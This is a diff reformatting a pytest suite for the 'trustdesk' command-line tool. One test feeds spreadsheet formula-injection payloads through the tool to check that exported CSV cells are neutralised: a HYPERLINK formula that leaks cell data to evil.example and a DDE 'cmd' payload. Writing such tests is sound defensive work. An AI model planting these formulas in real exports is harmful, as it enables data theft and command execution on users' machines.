@@ -10,8 +10,7 @@ import sys
 
 import pytest
 
-from tests.worlds import AD_EVENTS, BLOCKS, BUSINESSES, CAMPAIGNS, MESSAGES, REPORTS
-from tests.worlds import build, msg
+from tests.worlds import AD_EVENTS, BLOCKS, BUSINESSES, CAMPAIGNS, MESSAGES, REPORTS, build, msg
 from trustdesk.analytics.metrics import METRICS
 
 SUBCOMMANDS = ["generate", "load", "status", "demo", "metrics", "quarantine", "serve", "rebuild"]
@@ -26,8 +25,15 @@ def td(*args, root=None, input=None):
 
 @pytest.fixture(scope="module")
 def root(tmp_path_factory):
-    root, _ = build(tmp_path_factory.mktemp("cli"), businesses=BUSINESSES, messages=MESSAGES,
-                    blocks=BLOCKS, reports=REPORTS, ad_campaigns=CAMPAIGNS, ad_events=AD_EVENTS)
+    root, _ = build(
+        tmp_path_factory.mktemp("cli"),
+        businesses=BUSINESSES,
+        messages=MESSAGES,
+        blocks=BLOCKS,
+        reports=REPORTS,
+        ad_campaigns=CAMPAIGNS,
+        ad_events=AD_EVENTS,
+    )
     return root
 
 
@@ -63,7 +69,10 @@ def test_metrics_region_and_default_period(root):
     [
         (["metrics", "block_rates", "--from", "March"], "--from 'March' is not a date"),
         (["metrics", "block_rates", "--region", "Mars"], "unknown region 'Mars'"),
-        (["metrics", "block_rates", "--from", "2026-03-05", "--to", "2026-03-01"], "ends (2026-03-01) before it starts"),
+        (
+            ["metrics", "block_rates", "--from", "2026-03-05", "--to", "2026-03-01"],
+            "ends (2026-03-01) before it starts",
+        ),
     ],
 )
 def test_errors_are_one_sentence_without_traceback(root, args, words):
@@ -95,9 +104,18 @@ def test_load_json_and_exit_codes(tmp_path):
     res = td("load", str(good), "--format", "json", root=root)
     assert res.returncode == 0
     [obj] = json.loads(res.stdout)
-    assert {k: obj[k] for k in ("file", "kind", "status", "rows_read", "loaded", "duplicates", "quarantined", "error")} == {
-        "file": "blocks.csv", "kind": "blocks", "status": "loaded", "rows_read": 1, "loaded": 1,
-        "duplicates": 0, "quarantined": 0, "error": None}
+    assert {
+        k: obj[k] for k in ("file", "kind", "status", "rows_read", "loaded", "duplicates", "quarantined", "error")
+    } == {
+        "file": "blocks.csv",
+        "kind": "blocks",
+        "status": "loaded",
+        "rows_read": 1,
+        "loaded": 1,
+        "duplicates": 0,
+        "quarantined": 0,
+        "error": None,
+    }
     assert isinstance(obj["load_id"], int)
     partial = tmp_path / "b2.csv"
     partial.write_text("block_id,blocked_at,user_id,business_id\nk2,never,u1,b1\n")
@@ -137,7 +155,9 @@ def test_demo_fills_an_empty_data_directory_once(tmp_path):
 def test_generate_is_deterministic_through_the_command(tmp_path):
     a, b = tmp_path / "a", tmp_path / "b"
     for out in (a, b):
-        res = td("generate", "--out", str(out), "--seed", "9", "--businesses", "60", "--days", "10", "--messages", "20000")
+        res = td(
+            "generate", "--out", str(out), "--seed", "9", "--businesses", "60", "--days", "10", "--messages", "20000"
+        )
         assert res.returncode == 0, res.stderr
     for f in sorted(a.iterdir()):
         assert f.read_bytes() == (b / f.name).read_bytes(), f.name
@@ -149,15 +169,16 @@ def test_the_readme_example_generate_then_load_the_folder(tmp_path):
     """README: `trustdesk generate --out world/ ...` then `trustdesk load world/*.csv`: the truth
     file beside the logs is passed over with a note, the logs load, and evaluate still reads it."""
     world, root = tmp_path / "world", tmp_path / "data"
-    res = td("generate", "--out", str(world), "--seed", "1", "--businesses", "40", "--days", "8",
-             "--messages", "8000")
+    res = td("generate", "--out", str(world), "--seed", "1", "--businesses", "40", "--days", "8", "--messages", "8000")
     assert res.returncode == 0, res.stderr
     files = sorted(str(p) for p in world.glob("*.csv"))  # what the shell makes of world/*.csv
     assert str(world / "truth.csv") in files
     res = td("load", *files, root=root)
     assert res.returncode == 0, res.stdout + res.stderr
-    assert f"truth.csv: skipped: the ground truth of `trustdesk generate` (business_id, archetype), not a " \
-           f"log; score the review queue with it: trustdesk evaluate --truth {world / 'truth.csv'}" in res.stdout
+    assert (
+        f"truth.csv: skipped: the ground truth of `trustdesk generate` (business_id, archetype), not a "
+        f"log; score the review queue with it: trustdesk evaluate --truth {world / 'truth.csv'}" in res.stdout
+    )
     assert "REJECTED" not in res.stdout
     as_json = json.loads(td("load", *files, "--format", "json", root=root).stdout)
     assert [o["status"] for o in as_json if o["file"] == "truth.csv"] == ["skipped"]
@@ -178,37 +199,53 @@ def test_only_a_truth_file_loads_nothing_and_exits_0(tmp_path):
 def test_events_naming_undefined_businesses_are_counted_in_the_summary(tmp_path):
     root = tmp_path / "data"
     blocks = tmp_path / "blocks.csv"
-    blocks.write_text("block_id,blocked_at,user_id,business_id\n"
-                      "k1,2026-03-01T00:00:00Z,u1,b1\nk2,2026-03-01T00:00:00Z,u2,b9\n"
-                      "k3,2026-03-01T00:00:00Z,u3,b9\nk4,2026-03-01T00:00:00Z,u3,b8\n")
+    blocks.write_text(
+        "block_id,blocked_at,user_id,business_id\n"
+        "k1,2026-03-01T00:00:00Z,u1,b1\nk2,2026-03-01T00:00:00Z,u2,b9\n"
+        "k3,2026-03-01T00:00:00Z,u3,b9\nk4,2026-03-01T00:00:00Z,u3,b8\n"
+    )
     businesses = tmp_path / "businesses.csv"
     businesses.write_text("business_id,name,category,country\nb1,One,retail,IN\n")
     # blocks first: the businesses file later in the same command still defines b1
     res = td("load", str(blocks), str(businesses), root=root)
     assert res.returncode == 0, res.stderr
-    assert ("  note: 3 rows name 2 businesses that no loaded file defines; they are loaded and show as "
-            "unknown until a businesses file defines them; the Data quality page lists them "
-            "(businesses and campaigns no file has defined)") in res.stdout.splitlines()
+    assert (
+        "  note: 3 rows name 2 businesses that no loaded file defines; they are loaded and show as "
+        "unknown until a businesses file defines them; the Data quality page lists them "
+        "(businesses and campaigns no file has defined)"
+    ) in res.stdout.splitlines()
     as_json = td("load", str(blocks), str(businesses), "--format", "json", root=tmp_path / "other")
     [obj, _] = json.loads(as_json.stdout)
     assert (obj["undefined_rows"], obj["undefined_ids"], obj["undefined_entity"]) == (3, 2, "business")
     events = tmp_path / "ad_events.csv"
-    events.write_text("event_id,occurred_at,campaign_id,user_id,user_country,event\n"
-                      "e1,2026-03-01T00:00:00Z,c1,u1,IN,impression\n")
+    events.write_text(
+        "event_id,occurred_at,campaign_id,user_id,user_country,event\ne1,2026-03-01T00:00:00Z,c1,u1,IN,impression\n"
+    )
     res = td("load", str(events), root=root)
-    assert "  note: 1 row names 1 campaign that no loaded file defines; they are loaded and show as " \
-           "unknown until a campaigns file defines them" in res.stdout
+    assert (
+        "  note: 1 row names 1 campaign that no loaded file defines; they are loaded and show as "
+        "unknown until a campaigns file defines them" in res.stdout
+    )
 
 
-DANGEROUS_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
-                   "\tTabbed", "-2+3"]
+DANGEROUS_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\tTabbed",
+    "-2+3",
+]
 
 
 def test_metrics_csv_is_formula_safe_like_every_csv_the_command_writes(tmp_path):
-    businesses = [dict(business_id=f"b{i + 1}", name=name, category="retail", country="IN")
-                  for i, name in enumerate(DANGEROUS_NAMES)]
-    messages = [msg(f"m{i}", "2026-03-01T10:00:00Z", f"b{i + 1}", "u1", "outbound", "IN", "marketing", "=t", "read")
-                for i in range(len(DANGEROUS_NAMES))]
+    businesses = [
+        dict(business_id=f"b{i + 1}", name=name, category="retail", country="IN")
+        for i, name in enumerate(DANGEROUS_NAMES)
+    ]
+    messages = [
+        msg(f"m{i}", "2026-03-01T10:00:00Z", f"b{i + 1}", "u1", "outbound", "IN", "marketing", "=t", "read")
+        for i in range(len(DANGEROUS_NAMES))
+    ]
     blocks = [dict(block_id="k1", blocked_at="2026-03-01T11:00:00Z", user_id="u1", business_id="b1")]
     root, _ = build(tmp_path, businesses=businesses, messages=messages, blocks=blocks)
     res = td("metrics", "block_rates", "--from", "2026-03-01", "--to", "2026-03-01", root=root)
@@ -216,12 +253,14 @@ def test_metrics_csv_is_formula_safe_like_every_csv_the_command_writes(tmp_path)
     rows = list(csv.DictReader(io.StringIO(res.stdout)))
     assert sorted(r["name"] for r in rows) == sorted("'" + n for n in DANGEROUS_NAMES)
     assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
-    as_json = json.loads(td("metrics", "block_rates", "--from", "2026-03-01", "--to", "2026-03-01",
-                            "--format", "json", root=root).stdout)
+    as_json = json.loads(
+        td("metrics", "block_rates", "--from", "2026-03-01", "--to", "2026-03-01", "--format", "json", root=root).stdout
+    )
     assert sorted(r["name"] for r in as_json) == sorted(DANGEROUS_NAMES)  # JSON keeps the values as they are
     queue = td("queue", root=root)
     assert queue.returncode == 0 and not any(
-        v.startswith(("=", "+", "-", "@", "\t")) for r in csv.reader(io.StringIO(queue.stdout)) for v in r)
+        v.startswith(("=", "+", "-", "@", "\t")) for r in csv.reader(io.StringIO(queue.stdout)) for v in r
+    )
 
 
 def test_quarantine_lists_the_newest_load_first(tmp_path):
@@ -231,5 +270,9 @@ def test_quarantine_lists_the_newest_load_first(tmp_path):
         f.write_text(f"block_id,blocked_at,user_id,business_id\n{name[0]}1,never,u1,b1\n{name[0]}2,never,u1,b1\n")
         assert td("load", str(f), root=root).returncode == 1
     rows = json.loads(td("quarantine", "--format", "json", root=root).stdout)
-    assert [(r["file"], r["line"]) for r in rows] == [("second.csv", 2), ("second.csv", 3),
-                                                      ("first.csv", 2), ("first.csv", 3)]
+    assert [(r["file"], r["line"]) for r in rows] == [
+        ("second.csv", 2),
+        ("second.csv", 3),
+        ("first.csv", 2),
+        ("first.csv", 3),
+    ]
